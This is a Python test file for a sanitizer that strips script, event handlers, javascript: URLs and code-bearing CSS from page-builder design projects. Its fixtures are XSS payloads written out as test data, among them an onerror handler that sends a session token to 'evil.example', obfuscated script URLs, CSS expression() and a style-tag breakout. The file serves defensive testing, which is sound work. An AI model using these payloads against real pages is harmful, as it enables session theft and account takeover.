"""The untrusted-content rule's cleaner: what a designer project keeps and what it loses."""

import json

from core.untrusted_html import design_clean, html_clean


def _project(*components, styles=()):
    return {
        "assets": [{"type": "image", "src": "https://cdn.example/a.png"}],
        "styles": list(styles),
        "pages": [
            {
                "frames": [{"component": {"type": "wrapper", "components": list(components)}}],
                "id": "page-1",
            }
        ],
        "symbols": [],
        "dataSources": [],
    }


def _components(project):
    return project["pages"][0]["frames"][0]["component"]["components"]


def test_event_handlers_and_script_urls_leave_component_attributes():
    project = _project(
        {
            "type": "image",
            "tagName": "img",
            "attributes": {
                "src": "x",
                "onerror": "fetch('//evil.example/?t='+sessionStorage.getItem('mc.token'))",
                "ONLOAD": "steal()",
                "alt": "Logo",
                "srcdoc": "<script>steal()</script>",
            },
        },
        {"type": "link", "attributes": {"href": "  JaVa\tScript:steal()", "title": "Shop"}},
        {"type": "link", "attributes": {"href": "<% unsubscribeLink %>"}},
        {"type": "image", "src": "data:text/html;base64,PHNjcmlwdD4="},
    )
    cleaned = _components(design_clean(project))
    assert cleaned[0]["attributes"] == {"src": "x", "alt": "Logo"}
    assert cleaned[1]["attributes"] == {"title": "Shop"}
    assert cleaned[2]["attributes"] == {"href": "<% unsubscribeLink %>"}
    assert "src" not in cleaned[3]


def test_script_frame_and_plugin_components_are_dropped_with_their_children():
    project = _project(
        {"type": "script", "content": "steal()"},
        {"tagName": "script", "components": [{"type": "textnode", "content": "steal()"}]},
        {"type": "iframe", "attributes": {"src": "https://evil.example"}},
        {"tagName": "object", "attributes": {"data": "x.swf"}},
        {"tagName": "svg", "attributes": {"onload": "steal()"}},
        {"type": "text", "tagName": "p", "components": [{"type": "textnode", "content": "Hi"}]},
    )
    cleaned = _components(design_clean(project))
    assert cleaned == [
        {"type": "text", "tagName": "p", "components": [{"type": "textnode", "content": "Hi"}]}
    ]


def test_component_scripts_are_dropped():
    project = _project({"type": "default", "script": "steal()", "script-export": "steal()"})
    assert _components(design_clean(project)) == [{"type": "default"}]


def test_html_content_is_cleaned_and_text_content_kept_as_text():
    project = _project(
        {"type": "text", "content": '<b>Hi</b><img src="x" onerror="steal()"><script>x()</script>'},
        {"type": "default", "components": '<a href="javascript:steal()">go</a>'},
        {"type": "textnode", "content": "Dear <% firstName || there %> & co"},
    )
    cleaned = _components(design_clean(project))
    assert cleaned[0]["content"] == '<b>Hi</b><img src="x">'
    assert cleaned[1]["components"] == "<a>go</a>"
    assert cleaned[2]["content"] == "Dear <% firstName || there %> & co"


def test_styles_that_carry_code_are_dropped():
    project = _project(
        {"type": "text", "style": {"color": "red", "width": "expression(steal())"}},
        {"type": "text", "attributes": {"style": "color: red; background: url(javascript:x)"}},
        styles=[
            {
                "selectors": ["#a"],
                "style": {"color": "blue", "background": "url(javascript:steal())"},
            },
            {"selectors": ["#b"], "style": {"-moz-binding": "url(x.xml#x)", "font-size": 12}},
            {"selectors": ["#c"], "style": {"color": "red</style><img src=x onerror=steal()>"}},
        ],
    )
    cleaned = design_clean(project)
    assert _components(cleaned)[0]["style"] == {"color": "red"}
    assert _components(cleaned)[1]["attributes"] == {"style": "color: red"}
    assert [rule["style"] for rule in cleaned["styles"]] == [
        {"color": "blue"},
        {"font-size": 12},
        {},
    ]


def test_a_clean_project_is_unchanged_and_cleaning_twice_changes_nothing():
    plain = _project(
        {
            "type": "text",
            "tagName": "td",
            "attributes": {"id": "i3k", "align": "center", "data-gjs-type": "cell"},
            "components": [{"type": "textnode", "content": "Hello <% firstName %>"}],
        },
        {"type": "link", "attributes": {"href": "https://shop.example/?a=1&b=2"}},
        styles=[{"selectors": ["#i3k"], "style": {"padding": "4px", "color": "#333"}}],
    )
    assert design_clean(plain) == plain
    hostile = _project({"type": "image", "attributes": {"src": "x", "onerror": "steal()"}})
    once = design_clean(hostile)
    assert design_clean(once) == once
    assert "onerror" not in json.dumps(once)


def test_none_stays_none_and_a_project_that_is_no_object_becomes_empty():
    assert design_clean(None) is None
    assert design_clean([{"type": "script"}]) == {}


def test_html_keeps_template_tags_and_drops_handlers():
    html = '<p onclick="x()">Hi <% firstName || there %></p><a href="vbscript:x">v</a>'
    assert html_clean(html) == "<p>Hi <% firstName || there %></p><a>v</a>"


def test_a_forbidden_component_outside_a_list_becomes_null():
    project = {"pages": [{"frames": [{"component": {"type": "iframe", "components": []}}]}]}
    assert design_clean(project) == {"pages": [{"frames": [{"component": None}]}]}
